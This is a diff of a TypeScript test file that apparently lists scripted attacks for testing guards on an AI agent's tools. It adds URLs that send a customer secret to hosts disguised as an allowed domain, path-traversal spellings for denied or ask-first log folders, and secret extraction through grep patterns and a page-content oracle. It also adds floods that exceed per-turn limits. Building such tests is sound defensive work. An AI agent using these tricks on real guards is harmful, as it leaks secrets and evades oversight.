@@ -1,6 +1,6 @@
 import { HELD } from "./secrets.ts";
 import type { Attack, Target } from "./attacks.ts";
-import { DENIED_FOLDER, DENIED_HOST } from "./goods.ts";
+import { ASKED_FOLDER, DENIED_FOLDER, DENIED_HOST, KNOWN_HOST } from "./goods.ts";
 import { type Order, written } from "./notation.ts";
 
 /**
@@ -26,6 +26,24 @@ const CARRYING: Attack[] = [
         verb: "LEAK",
         key: "customer",
         url: `http://public.test:${port}/${random.pick(["?d=", "", "a/b?x=", "#", ";p="])}`,
+      },
+    ],
+    cards: 0,
+  },
+  {
+    name: "goods in a request that looks allowed",
+    orders: ({ goodsLog, port, random }) => [
+      call("read_log", { path: goodsLog }),
+      {
+        verb: "LEAK",
+        key: "customer",
+        url: random.pick([
+          `http://public.test:${port}/.${KNOWN_HOST}/?d=`,
+          `http://public.test:${port}/?x.${KNOWN_HOST}/&d=`,
+          `http://evil-${KNOWN_HOST}:${port}/?d=`,
+          `http://a.${KNOWN_HOST}.public.test:${port}/?d=`,
+          `http://public.test:${port}\\.${KNOWN_HOST}/?d=`,
+        ]),
       },
     ],
     cards: 0,
@@ -86,32 +104,72 @@ const DENIED: Attack[] = [
   {
     name: "a denied log by another name",
     orders: ({ random, logs }) => [
-      call("read_log", {
-        path: random.pick([
-          `${logs}/${DENIED_FOLDER}/hr.log`,
-          `${DENIED_FOLDER}/hr.log`,
-          `./${DENIED_FOLDER}//hr.log`,
-          `${logs}/./${DENIED_FOLDER}/../${DENIED_FOLDER}/hr.log`,
-          `${logs}/today.log`,
-          "today.log",
-        ]),
-      }),
+      call("read_log", { path: random.pick(spellings(logs, DENIED_FOLDER, "today.log")) }),
+      { verb: "REPEAT" },
+    ],
+    cards: 0,
+  },
+  {
+    name: "a log that has to be asked about, by another name",
+    orders: ({ random, logs }) => [
+      call("read_log", { path: random.pick(spellings(logs, ASKED_FOLDER, "plans.log")) }),
+      { verb: "REPEAT" },
+    ],
+    cards: 0,
+  },
+  {
+    name: "another company's records",
+    orders: () => [
+      call("incident_search", { text: "checkout" }),
+      call("incident_search", {}),
+      call("incident_stats", {}),
       { verb: "REPEAT" },
     ],
     cards: 0,
   },
 ];
 
+/** The file in a folder of logs, also by a link that stands beside the folder. */
+function spellings(logs: string, folder: string, link: string): string[] {
+  return [
+    `${logs}/${folder}/hr.log`,
+    `${folder}/hr.log`,
+    `./${folder}//hr.log`,
+    `${logs}/./${folder}/../${folder}/hr.log`,
+    `${logs}/${link}`,
+    link,
+  ];
+}
+
+/** Stands in the URL of a page that holds a secret and is asked for a part of it. */
+export const ORACLE = "oracle";
+
 const SEARCHES: Attack[] = [
   {
     name: "a secret by searching for its parts",
     orders: ({ secretLog, random }) => {
-      const { value } = random.pick(HELD);
-      const at = random.int(value.length - 8);
-      const part = value.slice(at, at + 6 + random.int(2)).replaceAll(/[^\w]/g, ".");
+      // Without signs, which an expression would need escaped.
+      const parts = HELD.flatMap(({ value }) => value.match(/\w{7,}/g) ?? []);
+      const plain = random.pick(parts);
+      const at = random.int(plain.length - 6);
+      const part = plain.slice(at, at + 6 + random.int(2));
       return [
         call("read_log", { path: secretLog, grep: part }),
         call("read_log", { path: secretLog, grep: `[${part.charAt(0)}]${part.slice(1)}` }),
+      ];
+    },
+    cards: 0,
+  },
+  {
+    name: "a secret by what a page must contain",
+    orders: ({ page, random }) => {
+      const { value } = random.pick(HELD);
+      const at = random.int(value.length - 12);
+      const url = `${page({ body: `config key=${value}\n` })}?${ORACLE}`;
+      const args = { url, contains: value.slice(at, at + 6) };
+      return [
+        call("http_check", args),
+        call("http_check", { ...args, contains: `key=${value.slice(0, 3)}` }),
       ];
     },
     cards: 0,
@@ -123,7 +181,13 @@ const SEARCHES: Attack[] = [
   },
 ];
 
-export const DETOURS: readonly Attack[] = [...CARRYING, ...DENIED, ...SEARCHES];
+const FLOODS: Attack[] = (["calls", "input", "words"] as const).map((of) => ({
+  name: `more ${of} than a turn may have`,
+  orders: () => [{ verb: "BULK", of }],
+  cards: 0,
+}));
+
+export const DETOURS: readonly Attack[] = [...CARRYING, ...DENIED, ...SEARCHES, ...FLOODS];
 
 /** As much is read of a line at a time (src/tools/lines.ts). */
 const PIECE = 128 * 1024;
